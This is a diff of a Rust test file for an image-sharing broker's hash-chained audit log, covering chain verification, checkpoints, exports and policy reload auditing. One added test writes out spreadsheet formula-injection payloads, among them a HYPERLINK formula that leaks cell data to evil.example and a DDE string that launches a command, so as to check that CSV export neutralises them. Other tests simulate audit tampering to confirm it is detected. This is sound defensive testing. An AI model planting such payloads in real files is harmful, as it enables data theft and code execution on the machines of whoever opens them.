@@ -15,10 +15,13 @@ use uuid::Uuid;
 
 use crate::fake_glance::Fault;
 use crate::faults::{approve_one, setup, until_state};
-use crate::helpers::{PROJ_B, TestApp, problem, request_body, serve_args, spawn_app};
+use crate::helpers::{IMAGE, PROJ_B, TestApp, problem, request_body, serve_args, spawn_app};
 use crate::openstack::{Rig, broker_cloud, drain, env, until_share_state, worker_config};
 
 const BIN: &str = env!("CARGO_BIN_EXE_glance-share-broker");
+
+/// The events in the chain before a test acts: `spawn_app` creates four keys, each audited.
+const SETUP: i64 = 4;
 
 /// `(action, outcome, initiator)` of every event about a request, oldest first.
 async fn trail(app: &TestApp, request_id: &str) -> Vec<(String, String, String)> {
@@ -322,14 +325,15 @@ async fn the_audit_tables_refuse_update_delete_and_truncate() {
             .fetch_one(&mut *conn)
             .await
             .unwrap();
-        assert_eq!(count, 1);
+        let written = if table == "audit_events" { SETUP + 1 } else { 1 };
+        assert_eq!(count, written, "{table}");
     }
     sqlx::query("reset role").execute(&mut *conn).await.unwrap();
     let count: i64 = sqlx::query_scalar("select count(*) from audit_events")
         .fetch_one(&mut *conn)
         .await
         .unwrap();
-    assert_eq!(count, 1, "nothing was changed");
+    assert_eq!(count, SETUP + 1, "nothing was changed");
 }
 
 #[tokio::test]
@@ -372,8 +376,8 @@ async fn the_broker_works_as_the_restricted_role() {
     )
     .await;
     assert_eq!(report["ok"], true, "{report}");
-    assert_eq!(report["head"]["chain_pos"], 2);
-    assert_eq!(report["checkpoint_written"]["chain_pos"], 2);
+    assert_eq!(report["head"]["chain_pos"], SETUP + 2);
+    assert_eq!(report["checkpoint_written"]["chain_pos"], SETUP + 2);
 }
 
 /// Lets `tamper` change the log as the superuser with the triggers switched off, as an
@@ -438,7 +442,7 @@ async fn file_three(app: &TestApp) {
 async fn verify_names_the_link_a_superuser_edited_with_the_triggers_off() {
     let app = spawn_app().await;
     file_three(&app).await;
-    let before = events_from(&app, 2).await.remove(0);
+    let before = events_from(&app, SETUP + 2).await.remove(0);
     let edited = Event {
         reason: Some("nothing to see here".into()),
         ..before.clone()
@@ -448,13 +452,13 @@ async fn verify_names_the_link_a_superuser_edited_with_the_triggers_off() {
     let report = verify(&app).await;
     assert_eq!(report["ok"], false);
     let broken = &report["first_broken_link"];
-    assert_eq!(broken["chain_pos"], 2);
+    assert_eq!(broken["chain_pos"], SETUP + 2);
     assert_eq!(broken["seq"], before.seq);
     assert_eq!(broken["id"], before.id.to_string());
     assert_eq!(broken["field"], "hash");
     assert_eq!(broken["stored"], hex::encode(before.hash.as_ref().unwrap()));
     assert_ne!(broken["expected"], broken["stored"]);
-    assert_eq!(report["head"]["chain_pos"], 1, "the last link that holds");
+    assert_eq!(report["head"]["chain_pos"], SETUP + 1, "the last link that holds");
     assert_eq!(
         report["checkpoint_written"],
         Value::Null,
@@ -470,8 +474,10 @@ async fn verify_names_the_link_a_superuser_edited_with_the_triggers_off() {
     let stdout = String::from_utf8_lossy(&out.stdout);
     assert!(
         stdout.contains(&format!(
-            "BROKEN LINK at place 2 (seq {}, event {})",
-            before.seq, before.id
+            "BROKEN LINK at place {} (seq {}, event {})",
+            SETUP + 2,
+            before.seq,
+            before.id
         )),
         "{stdout}"
     );
@@ -490,16 +496,23 @@ async fn the_command_line_verifies_an_intact_log_and_records_a_checkpoint() {
         .unwrap();
     let stdout = String::from_utf8_lossy(&out.stdout);
     assert!(out.status.success(), "{stdout}");
-    assert!(stdout.contains("the chain holds up to place 3"), "{stdout}");
+    let head = SETUP + 3;
+    assert!(
+        stdout.contains(&format!("the chain holds up to place {head}")),
+        "{stdout}"
+    );
     assert!(stdout.contains("0 events not sealed yet"), "{stdout}");
-    assert!(stdout.contains("checkpoint recorded at place 3"), "{stdout}");
+    assert!(
+        stdout.contains(&format!("checkpoint recorded at place {head}")),
+        "{stdout}"
+    );
 }
 
 #[tokio::test]
 async fn a_deleted_tail_and_rehashed_history_are_caught_by_checkpoints() {
     let app = spawn_app().await;
     file_three(&app).await;
-    assert_eq!(verify(&app).await["checkpoint_written"]["chain_pos"], 3);
+    assert_eq!(verify(&app).await["checkpoint_written"]["chain_pos"], SETUP + 3);
     app.file(&Uuid::new_v4().to_string(), &[PROJ_B]).await;
     assert_eq!(
         db::audit::checkpoint(&app.pool, "test-broker")
@@ -507,7 +520,7 @@ async fn a_deleted_tail_and_rehashed_history_are_caught_by_checkpoints() {
             .unwrap()
             .unwrap()
             .chain_pos,
-        4,
+        SETUP + 4,
         "the periodic checkpoint"
     );
     assert_eq!(
@@ -517,9 +530,10 @@ async fn a_deleted_tail_and_rehashed_history_are_caught_by_checkpoints() {
     );
 
     // The tail goes: every link left still holds, but the checkpoint knows better.
-    let tail = events_from(&app, 4).await.remove(0);
+    let tail = events_from(&app, SETUP + 4).await.remove(0);
     with_triggers_off(&app, async |conn: &mut PgConnection| {
-        sqlx::query("delete from audit_events where chain_pos = 4")
+        sqlx::query("delete from audit_events where chain_pos = $1")
+            .bind(SETUP + 4)
             .execute(conn)
             .await
             .unwrap();
@@ -528,16 +542,16 @@ async fn a_deleted_tail_and_rehashed_history_are_caught_by_checkpoints() {
     let report = verify(&app).await;
     assert_eq!(report["ok"], false, "{report}");
     assert_eq!(report["first_broken_link"], Value::Null);
-    assert_eq!(report["head"]["chain_pos"], 3);
+    assert_eq!(report["head"]["chain_pos"], SETUP + 3);
     let mismatch = &report["checkpoint_mismatch"];
-    assert_eq!(mismatch["checkpoint"]["chain_pos"], 4);
+    assert_eq!(mismatch["checkpoint"]["chain_pos"], SETUP + 4);
     assert_eq!(mismatch["checkpoint"]["hash"], hex::encode(tail.hash.as_ref().unwrap()));
     assert_eq!(mismatch["stored_hash"], Value::Null);
     assert!(mismatch["detail"].as_str().unwrap().contains("deleted"), "{mismatch}");
 
     // History rewritten and re-hashed from place 2 on: a valid chain, but not the one the
     // checkpoint at place 3 recorded.
-    let mut events = events_from(&app, 2).await;
+    let mut events = events_from(&app, SETUP + 2).await;
     events[0].reason = Some("rewritten".into());
     events[0].hash = events[0].expected_hash();
     events[1].prev_hash = events[0].hash.clone();
@@ -551,7 +565,7 @@ async fn a_deleted_tail_and_rehashed_history_are_caught_by_checkpoints() {
     let report = verify(&app).await;
     assert_eq!(report["first_broken_link"], Value::Null, "the links hold: {report}");
     let mismatch = &report["checkpoint_mismatch"];
-    assert_eq!(mismatch["checkpoint"]["chain_pos"], 3, "{report}");
+    assert_eq!(mismatch["checkpoint"]["chain_pos"], SETUP + 3, "{report}");
     assert_eq!(mismatch["stored_hash"], hex::encode(events[1].hash.as_ref().unwrap()));
     assert!(mismatch["detail"].as_str().unwrap().contains("rewritten"), "{mismatch}");
 }
@@ -562,8 +576,8 @@ async fn concurrent_writers_keep_one_valid_chain() {
     file_at_once(&app, 20).await;
     let report = verify(&app).await;
     assert_eq!(report["ok"], true, "{report}");
-    assert_eq!(report["events_checked"], 20);
-    assert_eq!(report["head"]["chain_pos"], 20);
+    assert_eq!(report["events_checked"], SETUP + 20);
+    assert_eq!(report["head"]["chain_pos"], SETUP + 20);
 }
 
 async fn export(app: &TestApp, query: &str, accept: &str) -> (String, String) {
@@ -593,7 +607,9 @@ async fn every_export_format_parses() {
     assert_eq!(content_type, "application/x-ndjson", "format= wins over Accept");
     let lines: Vec<Value> = ndjson.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
     let seqs: Vec<i64> = lines.iter().map(|l| l["seq"].as_i64().unwrap()).collect();
-    assert_eq!(seqs, [1, 2, 3]);
+    assert_eq!(seqs, (1..=SETUP + 3).collect::<Vec<_>>());
+    assert!(lines[..SETUP as usize].iter().all(|l| l["action"] == "create/key"));
+    let lines = &lines[SETUP as usize..];
     assert_eq!(lines[0]["reason"], awkward);
     assert_eq!(lines[2]["action"], "update/deny");
     assert_eq!(lines[2]["hash"].as_str().unwrap().len(), 64);
@@ -605,7 +621,8 @@ async fn every_export_format_parses() {
     assert_eq!(&headers[0], "seq");
     assert!(headers.iter().any(|h| h == "initiator_name"));
     let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
-    assert_eq!(rows.len(), 3);
+    assert_eq!(rows.len(), SETUP as usize + 3);
+    let rows = &rows[SETUP as usize..];
     let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
     assert_eq!(&rows[0][column("reason")], awkward);
     assert_eq!(&rows[2][column("initiator_name")], "workflow");
@@ -615,8 +632,9 @@ async fn every_export_format_parses() {
     let (content_type, cadf) = export(&app, "", "application/cadf+json").await;
     assert_eq!(content_type, "application/cadf+json");
     let cadf: Vec<Value> = serde_json::from_str(&cadf).unwrap();
-    assert_eq!(cadf.len(), 3);
-    for event in &cadf {
+    assert_eq!(cadf.len(), SETUP as usize + 3);
+    let cadf = &cadf[SETUP as usize..];
+    for event in cadf {
         assert_eq!(event["typeURI"], "http://schemas.dmtf.org/cloud/audit/1.0/event");
         assert_eq!(event["eventType"], "activity");
         assert!(chrono::DateTime::parse_from_rfc3339(event["eventTime"].as_str().unwrap()).is_ok());
@@ -647,6 +665,19 @@ async fn page(app: &TestApp, query: &str) -> Value {
     .await
 }
 
+/// The cursor past the events `spawn_app` leaves (the first [`SETUP`] in the chain).
+async fn after_setup(app: &TestApp) -> String {
+    let setup = page(app, &format!("?limit={SETUP}")).await;
+    assert!(
+        setup["items"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|e| e["action"] == "create/key")
+    );
+    setup["next_cursor"].as_str().unwrap().to_owned()
+}
+
 fn seqs(page: &Value) -> Vec<i64> {
     page["items"]
         .as_array()
@@ -673,33 +704,44 @@ async fn audit_events_filter_and_page_in_chain_order_for_auditors_only() {
         app.file(&Uuid::new_v4().to_string(), &["proj-c"]).await;
     }
 
-    let one = page(&app, "?limit=2").await;
-    assert_eq!(seqs(&one), [1, 2]);
+    let setup = after_setup(&app).await;
+    let one = page(&app, &format!("?limit=2&cursor={setup}")).await;
+    assert_eq!(seqs(&one), [SETUP + 1, SETUP + 2]);
     assert_eq!(one["items"][0]["correlation_id"], "corr-42");
     assert_eq!(one["items"][0]["initiator"]["name"], "portal");
     // An event appended between pages lands at the end: nothing skipped or repeated.
     app.file(&Uuid::new_v4().to_string(), &["proj-c"]).await;
     let cursor = one["next_cursor"].as_str().unwrap();
     let two = page(&app, &format!("?limit=2&cursor={cursor}")).await;
-    assert_eq!(seqs(&two), [3, 4]);
+    assert_eq!(seqs(&two), [SETUP + 3, SETUP + 4]);
     let three = page(
         &app,
         &format!("?limit=2&cursor={}", two["next_cursor"].as_str().unwrap()),
     )
     .await;
-    assert_eq!(seqs(&three), [5, 6]);
+    assert_eq!(seqs(&three), [SETUP + 5, SETUP + 6]);
     assert_eq!(three["next_cursor"], Value::Null);
 
-    assert_eq!(seqs(&page(&app, &format!("?image_id={image}")).await), [1, 2]);
-    assert_eq!(seqs(&page(&app, &format!("?project_id={PROJ_B}")).await), [1]);
-    assert_eq!(seqs(&page(&app, "?actor=workflow").await), [2]);
-    assert_eq!(seqs(&page(&app, "?action=update/deny&outcome=success").await), [2]);
+    let (filed, denied) = (SETUP + 1, SETUP + 2);
+    assert_eq!(seqs(&page(&app, &format!("?image_id={image}")).await), [filed, denied]);
+    assert_eq!(seqs(&page(&app, &format!("?project_id={PROJ_B}")).await), [filed]);
+    assert_eq!(seqs(&page(&app, "?actor=workflow").await), [denied]);
+    assert_eq!(seqs(&page(&app, "?action=update/deny&outcome=success").await), [denied]);
     assert_eq!(seqs(&page(&app, "?outcome=failure").await), Vec::<i64>::new());
     let request_id = id(&first, "/id");
-    assert_eq!(seqs(&page(&app, &format!("?request_id={request_id}")).await), [1, 2]);
+    assert_eq!(
+        seqs(&page(&app, &format!("?request_id={request_id}")).await),
+        [filed, denied]
+    );
     let after = one["items"][1]["occurred_at"].as_str().unwrap().replace('+', "%2B");
-    assert_eq!(seqs(&page(&app, &format!("?after={after}&limit=1")).await), [2]);
-    assert_eq!(seqs(&page(&app, &format!("?before={after}")).await), [1]);
+    assert_eq!(
+        seqs(&page(&app, &format!("?after={after}&limit=1&cursor={setup}")).await),
+        [denied]
+    );
+    assert_eq!(
+        seqs(&page(&app, &format!("?before={after}&cursor={setup}")).await),
+        [filed]
+    );
 
     for key in [&app.requester, &app.approver] {
         for path in ["/v1/audit-events", "/v1/audit-events/verify"] {
@@ -874,27 +916,31 @@ async fn events_that_commit_out_of_seq_order_are_all_sealed_into_one_valid_chain
     assert!(first.seq < second.seq);
     late.commit().await.unwrap();
     assert!(db::audit::seal_all(&app.pool).await.unwrap());
-    assert_eq!(stored(&app, second.seq).await.chain_pos, Some(1));
+    assert_eq!(stored(&app, second.seq).await.chain_pos, Some(SETUP + 1));
 
     // The lower seq commits after the higher one was sealed: it takes the next place.
     early.commit().await.unwrap();
     assert!(db::audit::seal_all(&app.pool).await.unwrap());
     let first = stored(&app, first.seq).await;
-    assert_eq!(first.chain_pos, Some(2));
+    assert_eq!(first.chain_pos, Some(SETUP + 2));
     assert_eq!(first.prev_hash, stored(&app, second.seq).await.hash);
     let report = verify(&app).await;
     assert_eq!(report["ok"], true, "{report}");
-    assert_eq!(report["events_checked"], 2);
-    assert_eq!(report["head"]["chain_pos"], 2);
+    assert_eq!(report["events_checked"], SETUP + 2);
+    assert_eq!(report["head"]["chain_pos"], SETUP + 2);
     assert_eq!(report["unsealed_events"], 0);
-    let listed = page(&app, "").await;
+    let listed = page(&app, &format!("?cursor={}", after_setup(&app).await)).await;
     let places: Vec<(i64, i64)> = listed["items"]
         .as_array()
         .unwrap()
         .iter()
         .map(|e| (e["chain_pos"].as_i64().unwrap(), e["seq"].as_i64().unwrap()))
         .collect();
-    assert_eq!(places, [(1, second.seq), (2, first.seq)], "listed in chain order");
+    assert_eq!(
+        places,
+        [(SETUP + 1, second.seq), (SETUP + 2, first.seq)],
+        "listed in chain order"
+    );
 }
 
 /// Runs `sql` in a savepoint of `tx`: it must fail with a message containing `needle`.
@@ -1018,8 +1064,8 @@ async fn concurrent_writers_and_two_sealers_keep_one_valid_chain() {
     }
     let report = verify(&app).await;
     assert_eq!(report["ok"], true, "{report}");
-    assert_eq!(report["events_checked"], 30);
-    assert_eq!(report["head"]["chain_pos"], 30);
+    assert_eq!(report["events_checked"], SETUP + 30);
+    assert_eq!(report["head"]["chain_pos"], SETUP + 30);
     assert_eq!(report["unsealed_events"], 0);
 }
 
@@ -1090,6 +1136,209 @@ async fn verify_flags_an_event_left_unsealed_too_long() {
     stuck.rollback().await.unwrap();
     let report = verify(&app).await;
     assert_eq!(report["ok"], true, "{report}");
-    assert_eq!(report["head"]["chain_pos"], 2);
+    assert_eq!(report["head"]["chain_pos"], SETUP + 2);
     assert_eq!(report["unsealed_events"], 0);
+}
+
+#[tokio::test]
+async fn the_csv_export_neutralises_cells_a_spreadsheet_would_read_as_formulas() {
+    let app = spawn_app().await;
+    let reason = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click here")"#;
+    let mut body = request_body(&Uuid::new_v4().to_string(), &[PROJ_B]);
+    body["reason"] = json!(reason);
+    post_ok(&app, &app.requester, "/v1/share-requests", body).await;
+    // A refused call: an approver may not file requests; the refusal records its User-Agent.
+    // (HTTP trims a leading tab from a header: the unit test of `neutralised` covers tab and CR.)
+    let agents = [
+        r#"=HYPERLINK("http://evil.example","x")"#,
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+cmd",
+        "-2+3",
+    ];
+    for agent in agents {
+        let refused = app
+            .post(&app.approver, "/v1/share-requests", &request_body(IMAGE, &[PROJ_B]))
+            .header("user-agent", agent)
+            .send()
+            .await
+            .unwrap();
+        problem(refused, StatusCode::FORBIDDEN).await;
+    }
+
+    let (_, csv) = export(&app, "?format=csv", "*/*").await;
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let filed = rows
+        .iter()
+        .find(|r| &r[column("action")] == "create" && &r[column("outcome")] == "success");
+    assert_eq!(&filed.unwrap()[column("reason")], format!("'{reason}"));
+    let refused: Vec<&str> = rows
+        .iter()
+        .filter(|r| &r[column("outcome")] == "failure")
+        .map(|r| &r[column("initiator_user_agent")])
+        .collect();
+    let expected: Vec<String> = agents.iter().map(|a| format!("'{a}")).collect();
+    assert_eq!(refused, expected);
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
+    // The other formats carry the text as it was written.
+    let (_, ndjson) = export(&app, "?format=ndjson&outcome=failure", "*/*").await;
+    let first: Value = serde_json::from_str(ndjson.lines().next().unwrap()).unwrap();
+    assert_eq!(first["initiator"]["user_agent"], agents[0]);
+}
+
+/// The `update/policy` events so far: (outcome, reason, details), oldest first.
+async fn policy_events(app: &TestApp) -> Vec<(String, Option<String>, Value)> {
+    sqlx::query_as("select outcome, reason, details from audit_events where action = 'update/policy' order by seq")
+        .fetch_all(&app.pool)
+        .await
+        .unwrap()
+}
+
+/// Waits until there are `count` `update/policy` events.
+async fn until_policy_events(app: &TestApp, count: usize) -> Vec<(String, Option<String>, Value)> {
+    for _ in 0..300 {
+        let events = policy_events(app).await;
+        if events.len() >= count {
+            return events;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+    }
+    panic!("no {count} policy events: {:?}", policy_events(app).await);
+}
+
+fn sha256_hex(text: &str) -> String {
+    use sha2::Digest;
+    hex::encode(sha2::Sha256::digest(text.as_bytes()))
+}
+
+#[tokio::test]
+async fn each_policy_load_and_reload_is_audited_with_its_digest_and_rules_refusals_too() {
+    use nix::sys::signal::{Signal, kill};
+    use nix::unistd::Pid;
+
+    let app = spawn_app().await;
+    let dir = std::env::temp_dir().join(format!("gsb-policy-audit-{}", Uuid::new_v4()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let path = dir.join("policy.toml");
+    let first = "[[rules]]\nname = \"first\"\ndecision = \"approve\"\n\n[[rules]]\nname = \"fallback\"\ndecision = \"require_approval\"";
+    std::fs::write(&path, first).unwrap();
+    let mut worker = Command::new(BIN)
+        .args(["worker", "--idle-poll-ms", "100", "--instance", "policy-worker"])
+        .env("DATABASE_URL", &app.database_url)
+        .env("OS_CLOUD", "admin")
+        .env("OS_CLIENT_CONFIG_FILE", env("OS_CLIENT_CONFIG_FILE"))
+        .env("GSB_POLICY_FILE", &path)
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let hang_up = || kill(Pid::from_raw(worker.id() as i32), Signal::SIGHUP).unwrap();
+    until_policy_events(&app, 1).await;
+
+    let bad = "[[rules]]\nname = \"second\"\ndecision = \"deny\"\napprovals = 2";
+    std::fs::write(&path, bad).unwrap();
+    hang_up();
+    until_policy_events(&app, 2).await;
+    let good = "[[rules]]\nname = \"second\"\ndecision = \"deny\"";
+    std::fs::write(&path, good).unwrap();
+    hang_up();
+    let events = until_policy_events(&app, 3).await;
+    kill(Pid::from_raw(worker.id() as i32), Signal::SIGTERM).unwrap();
+    assert!(worker.wait().unwrap().success());
+    std::fs::remove_dir_all(&dir).unwrap();
+
+    let path = path.display().to_string();
+    assert_eq!(
+        events[0],
+        (
+            "success".to_owned(),
+            None,
+            json!({"trigger": "start", "path": path, "digest": sha256_hex(first), "rules": ["first", "fallback"]})
+        )
+    );
+    let (outcome, reason, details) = &events[1];
+    assert_eq!(outcome, "failure");
+    assert!(reason.as_deref().unwrap().contains("rules[0].approvals"), "{reason:?}");
+    assert_eq!(
+        details,
+        &json!({"trigger": "reload", "path": path, "digest": sha256_hex(bad)})
+    );
+    assert_eq!(
+        events[2],
+        (
+            "success".to_owned(),
+            None,
+            json!({"trigger": "reload", "path": path, "digest": sha256_hex(good), "rules": ["second"]})
+        )
+    );
+    let (initiator, observer): (Value, String) =
+        sqlx::query_as("select initiator, observer from audit_events where action = 'update/policy' limit 1")
+            .fetch_one(&app.pool)
+            .await
+            .unwrap();
+    assert_eq!(initiator, json!({"kind": "service", "name": "policy-file"}));
+    assert_eq!(observer, "policy-worker");
+    assert_chain_holds(&app).await;
+}
+
+#[tokio::test]
+async fn the_verify_endpoint_checks_the_anchors_it_is_given() {
+    let app = spawn_app().await;
+    file_three(&app).await;
+    let head = verify(&app).await["head"].clone();
+    let anchor = format!("{}:{}", head["chain_pos"], head["hash"].as_str().unwrap());
+
+    let held = json_of(
+        app.get(&app.auditor, &format!("/v1/audit-events/verify?expect={anchor}"))
+            .send()
+            .await
+            .unwrap(),
+    )
+    .await;
+    assert_eq!(held["ok"], true, "{held}");
+    assert_eq!(held["anchors_checked"], 1);
+    assert_eq!(held["anchor_mismatch"], Value::Null);
+
+    let wrong = format!("2:{}", "ab".repeat(32));
+    let report = json_of(
+        app.get(
+            &app.auditor,
+            &format!("/v1/audit-events/verify?expect={anchor},{wrong}"),
+        )
+        .send()
+        .await
+        .unwrap(),
+    )
+    .await;
+    assert_eq!(report["ok"], false, "{report}");
+    assert_eq!(report["anchors_checked"], 2);
+    let mismatch = &report["anchor_mismatch"];
+    assert_eq!(mismatch["expected"]["chain_pos"], 2);
+    assert_eq!(mismatch["expected"]["hash"], "ab".repeat(32));
+    assert_eq!(mismatch["stored_hash"].as_str().unwrap().len(), 64);
+    assert!(mismatch["detail"].as_str().unwrap().contains("rewritten"), "{mismatch}");
+    assert_eq!(
+        report["checkpoint_written"],
+        Value::Null,
+        "no checkpoint of a failed check"
+    );
+
+    let bad = app
+        .get(&app.auditor, "/v1/audit-events/verify?expect=2:xyz")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(
+        crate::helpers::fields(&problem(bad, StatusCode::UNPROCESSABLE_ENTITY).await),
+        ["expect"]
+    );
 }
